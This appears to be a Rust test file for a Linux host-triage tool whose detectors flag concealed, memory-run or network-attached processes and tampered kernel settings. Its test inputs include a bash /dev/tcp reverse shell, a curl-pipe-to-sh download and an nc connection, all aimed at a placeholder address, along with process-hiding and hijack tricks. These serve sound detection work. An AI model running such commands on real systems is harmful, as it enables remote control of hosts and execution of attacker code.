use super::super::Detectors;
use super::*;
use crate::detect::testing::ids;
use crate::model::{
    HiddenProcess, KernelModule, MappedFile, Maps, Mount, OpenFile, SocketOwner, SystemValue, Timestamp, Variable,
};

fn process(pid: u32, executable: &str, arguments: &[&str]) -> Process {
    let command_line: Vec<u8> = arguments.iter().flat_map(|argument| [argument.as_bytes(), b"\0"].concat()).collect();
    Process {
        pid,
        parent: 1,
        start_ticks: 100,
        name: RawText::from(executable.rsplit('/').next().unwrap_or_default()),
        executable: (!executable.is_empty()).then(|| executable.into()),
        command_line: RawText::from(command_line),
        ..Process::default()
    }
}

fn of(mut process: Process, user: &str) -> Process {
    process.user = Some(user.into());
    process
}

fn deleted(mut process: Process) -> Process {
    process.is_deleted = true;
    process
}

/// The findings; every test is at the same time one of the order of records.
fn findings(records: &[Record]) -> Vec<Finding> {
    let run = |records: &mut dyn Iterator<Item = &Record>| {
        let detectors = Detectors::builtin(Vec::new()).unwrap();
        records.for_each(|record| detectors.consider(record));
        detectors.conclude(&HostContext { is_host: true, gaps: &[], selects: &|_| true }).value
    };
    let forward = run(&mut records.iter());
    assert_eq!(forward, run(&mut records.iter().rev()), "the order of records shows");
    forward
}

fn of_process(process: Process) -> Vec<String> {
    ids(&findings(&[Record::Process(Box::new(process))]))
}

#[test]
fn an_ordinary_host_gives_nothing() {
    let mut updated = deleted(of(process(2, "/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]), "www-data"));
    updated.maps = Maps {
        deleted: vec![MappedFile { file: "/usr/lib/x86_64-linux-gnu/libc.so.6".into(), is_executable: true }],
        ..Maps::default()
    };
    let mut jit = process(3, "/usr/bin/node", &["node", "app.js"]);
    jit.maps.deleted = vec![MappedFile { file: "/memfd:jit".into(), is_executable: true }];
    let mut preload = process(4, "/usr/bin/redis-server", &["redis-server *:6379"]);
    let value = Some("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2".into());
    preload.environment = vec![Variable { name: "LD_PRELOAD".into(), value, sha256: None }];
    let records: Vec<Record> = [
        process(10, "", &[]),
        updated,
        jit,
        preload,
        of(process(5, "/usr/sbin/asterisk", &["/usr/sbin/asterisk", "-U", "asterisk", "-vvvg", "-c"]), "asterisk"),
        of(process(6, "/usr/bin/php8.2", &["php", "/usr/sbin/fwconsole", "job", "--run"]), "asterisk"),
        of(process(7, "/usr/bin/dash", &["/bin/sh", "-c", "[ -e /usr/sbin/fwconsole ] && sleep $((RANDOM%30)) && /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null"]), "asterisk"),
        of(process(8, "/usr/bin/bash", &["/bin/bash", "/usr/sbin/safe_asterisk", "-U", "asterisk", "-G", "asterisk"]), "asterisk"),
        of(process(9, "/usr/bin/node", &["PM2 v4: God Daemon (/home/asterisk/.pm2)"]), "asterisk"),
        process(11, "/usr/bin/bash", &["bash", "-c", "cat > /etc/x <<'EOF'\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\nEOF"]),
        process(12, "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]),
    ]
    .into_iter()
    .map(|process| Record::Process(Box::new(process)))
    .collect();
    assert_eq!(ids(&findings(&records)), Vec::<String>::new());
}

#[test]
fn each_way_to_run_what_nobody_may_see_is_found() {
    let web = |executable: &str, arguments: &[&str]| of(process(7, executable, arguments), "www-data");
    let mut preload = process(7, "/usr/bin/cat", &["cat"]);
    preload.environment =
        vec![Variable { name: "LD_PRELOAD".into(), value: Some("/dev/shm/.x.so".into()), sha256: None }];
    let mut mapped = web("/usr/sbin/apache2", &["apache2"]);
    mapped.maps.outside = vec![MappedFile { file: "/tmp/.x/lib.so".into(), is_executable: true }];
    let mut hidden = process(7, "/usr/sbin/sshd", &["sshd"]);
    hidden.maps.outside = ["/usr/lib/.x/y.so", "/usr/lib/python3/dist-packages/a/.libs/b.so", "/opt/x/y.so"]
        .map(|file| MappedFile { file: file.into(), is_executable: true })
        .to_vec();
    let mut named = process(7, "/usr/bin/perl", &["perl"]);
    named.name = "kworker/0:1".into();
    let mut terminal = web("/usr/bin/bash", &["bash"]);
    terminal.terminal = Some("pts/3".into());
    for (process, expected) in [
        (deleted(process(7, "/tmp/x", &["x"])), &["TR-PROC-0001 high"][..]),
        (deleted(web("/var/www/html/x", &["x"])), &["TR-PROC-0001 high"]),
        (deleted(process(7, "/srv/x", &["x"])), &["TR-PROC-0001 low"]),
        (deleted(process(7, "/memfd:a", &["x"])), &["TR-PROC-0002 low"]),
        (deleted(web("/memfd:a", &["x"])), &["TR-PROC-0002 high"]),
        (deleted(process(7, "/memfd:runc_cloned:/proc/self/exe", &["runc", "init"])), &["TR-PROC-0002 low"]),
        (process(7, "/dev/shm/.systemd/x", &["x"]), &["TR-PROC-0003 high"]),
        (process(7, "/tmp/x", &["x"]), &["TR-PROC-0003 medium"]),
        (process(7, "/home/a/.cargo/bin/.x", &["x"]), &["TR-PROC-0003 low"]),
        (process(7, "/opt/miner", &["[kworker/u4:2]"]), &["TR-PROC-0005 high"]),
        (named, &["TR-PROC-0005 high"]),
        (process(7, "/opt/celery", &["[celeryd]"]), &["TR-PROC-0005 low"]),
        (preload, &["TR-PROC-0006 high"]),
        (mapped, &["TR-PROC-0009 high"]),
        (hidden, &["TR-PROC-0009 medium"]),
        (web("/usr/bin/dash", &["sh", "-c", "curl -s http://192.0.2.1/x | sh"]), &["TR-PROC-0007 high"]),
        (process(7, "/usr/bin/dash", &["sh", "-c", "curl -s http://192.0.2.1/x | sh"]), &["TR-PROC-0008 low"]),
        (web("/usr/bin/nc.openbsd", &["nc", "192.0.2.1", "443"]), &["TR-PROC-0014 medium"]),
        (
            web("/usr/bin/dash", &["sh", "-c", "while true; do curl -s http://192.0.2.1/; sleep 60; done"]),
            &["TR-PROC-0014 medium"],
        ),
        (terminal, &["TR-PROC-0014 medium"]),
    ] {
        let name = format!("{:?} {:?}", process.executable, process.command_line);
        let found: Vec<String> = of_process(process).into_iter().filter(|found| found.starts_with("TR-PROC")).collect();
        assert_eq!(found, expected, "{name}");
    }
}

fn attached(pid: u32) -> Process {
    let mut process = process(pid, "/usr/bin/dash", &["sh", "-i"]);
    process.files =
        (0..3).map(|descriptor| OpenFile { descriptor, target: "socket:[77]".into(), ..OpenFile::default() }).collect();
    process
}

fn connection(protocol: &str, remote: &str, owners: &[(u32, u32)]) -> Record {
    Record::Socket(Socket {
        time: Timestamp::new(0, 0),
        protocol: protocol.into(),
        local: "192.0.2.9:40000".into(),
        remote: Some(remote.into()),
        state: "established".into(),
        uid: Some(33),
        inode: 77,
        namespace: None,
        owners: owners.iter().map(|&(pid, descriptor)| SocketOwner { pid, descriptor }).collect(),
    })
}

#[test]
fn a_shell_on_one_connection_is_found_and_one_on_a_socket_pair_is_not() {
    let all = [(7, 0), (7, 1), (7, 2)];
    let shell = || Record::Process(Box::new(attached(7)));
    let found = findings(&[shell(), connection("tcp", "198.51.100.7:443", &all)]);
    assert_eq!(ids(&found), ["TR-PROC-0004 high"]);
    assert!(matches!(&found[0].subject, Subject::Process { pid: 7, start_ticks: 100, .. }));
    assert!(findings(&[shell(), connection("unix", "x", &all)]).is_empty());
    assert!(findings(&[shell(), connection("tcp", "198.51.100.7:443", &all[..2])]).is_empty());
}

#[test]
fn ourselves_and_who_started_us_are_left_out_by_pid_and_start_and_not_by_name() {
    let mut own = attached(7);
    own.is_own = true;
    let all = [(7, 0), (7, 1), (7, 2)];
    assert!(findings(&[Record::Process(Box::new(own)), connection("tcp", "198.51.100.7:443", &all)]).is_empty());
    assert_eq!(of_process(deleted(process(8, "/tmp/triage", &["triage", "collect"]))), ["TR-PROC-0001 high"]);
}

#[test]
fn a_connection_to_a_published_address_names_its_process() {
    let found = findings(&[Record::Process(Box::new(attached(7))), connection("tcp", "45.95.147.178:80", &[(7, 3)])]);
    assert!(
        found.iter().any(|found| found.rule.0 == "TR-PROC-0012" && found.subject.kind() == "process"),
        "{found:#?}"
    );
    assert!(findings(&[connection("tcp", "145.95.147.178:80", &[])]).is_empty());
}

#[test]
fn what_hides_is_found() {
    let time = Timestamp::new(0, 0);
    let hidden = HiddenProcess { time, pid: 7, seen_in: vec!["lookup".into()], missing_from: vec!["listing".into()] };
    assert_eq!(ids(&findings(&[Record::HiddenProcess(hidden)])), ["TR-PROC-0010 high"]);
    let module = |seen: &[&str], missing: &[&str]| {
        Record::KernelModule(KernelModule {
            time,
            name: "x".into(),
            size_bytes: None,
            used_by: Vec::new(),
            state: String::new(),
            taint: String::new(),
            seen_in: seen.iter().map(|&view| view.to_owned()).collect(),
            missing_from: missing.iter().map(|&view| view.to_owned()).collect(),
        })
    };
    assert_eq!(ids(&findings(&[module(&["sysfs"], &["modules"])])), ["TR-KERNEL-0001 high"]);
    assert_eq!(ids(&findings(&[module(&["kallsyms"], &["modules", "sysfs"])])), ["TR-KERNEL-0001 medium"]);
    assert!(findings(&[module(&["modules", "sysfs", "kallsyms"], &[])]).is_empty());
    let mount = |point: &str, file_system: &str| {
        Record::Mount(Mount {
            time,
            id: 1,
            parent: 1,
            device: "0:1".into(),
            root: "/".into(),
            mount_point: point.into(),
            options: "rw".into(),
            file_system: file_system.into(),
            origin: "none".into(),
            super_options: "rw".into(),
        })
    };
    for (point, file_system, expected) in [
        ("/proc/4711", "tmpfs", &["TR-KERNEL-0002 high"][..]),
        ("/proc/4711/fd", "ext4", &["TR-KERNEL-0002 high"]),
        ("/usr/bin/ps", "ext4", &["TR-KERNEL-0003 medium"]),
        ("/etc", "overlay", &["TR-KERNEL-0003 low"]),
        ("/proc/sys/fs/binfmt_misc", "binfmt_misc", &[]),
        ("/proc", "proc", &[]),
        ("/proc/kcore", "tmpfs", &[]),
        ("/", "overlay", &[]),
        ("/usr", "ext4", &[]),
        ("/etc/resolv.conf", "ext4", &[]),
        ("/boot/efi", "vfat", &[]),
    ] {
        assert_eq!(ids(&findings(&[mount(point, file_system)])), expected, "{point}");
    }
    let value = |name: &str, value: &str| {
        ids(&findings(&[Record::SystemValue(SystemValue {
            time,
            name: format!("/proc/sys/kernel/{name}"),
            value: value.into(),
        })]))
    };
    assert_eq!(value("core_pattern", "|/tmp/x %p"), ["TR-KERNEL-0004 high"]);
    assert_eq!(value("core_pattern", "|/srv/x"), ["TR-KERNEL-0004 medium"]);
    assert_eq!(value("modprobe", "/dev/shm/x"), ["TR-KERNEL-0005 high"]);
    for (name, text) in [
        ("core_pattern", "core"),
        ("core_pattern", "|/usr/lib/systemd/systemd-coredump %P %u"),
        ("core_pattern", "|/bin/false"),
        ("modprobe", "/sbin/modprobe"),
        ("hotplug", ""),
    ] {
        assert_eq!(value(name, text), Vec::<String>::new(), "{name} {text}");
    }
}

#[test]
fn a_listener_of_nobody_is_low_and_untold_where_processes_could_not_be_seen() {
    let Record::Socket(mut socket) = connection("tcp", "", &[]) else { return };
    (socket.remote, socket.state) = (None, "listen".into());
    let record = Record::Socket(socket);
    assert_eq!(ids(&findings(std::slice::from_ref(&record))), ["TR-PROC-0013 low"]);
    let detectors = Detectors::builtin(Vec::new()).unwrap();
    detectors.consider(&record);
    let gaps = [crate::model::Gap::new(proc("/proc"), GapReason::PermissionDenied, "")];
    assert!(detectors.conclude(&HostContext { is_host: true, gaps: &gaps, selects: &|_| true }).value.is_empty());
}

#[test]
fn a_program_from_memory_that_talks_to_another_machine_is_high() {
    let memory = || Record::Process(Box::new(deleted(process(7, "/memfd:a", &["x"]))));
    let high = findings(&[memory(), connection("tcp", "198.51.100.7:443", &[(7, 5)])]);
    assert_eq!(ids(&high), ["TR-PROC-0002 high"]);
    let low = findings(&[memory(), connection("tcp", "127.0.0.1:443", &[(7, 5)])]);
    assert_eq!(ids(&low), ["TR-PROC-0002 low"]);
}
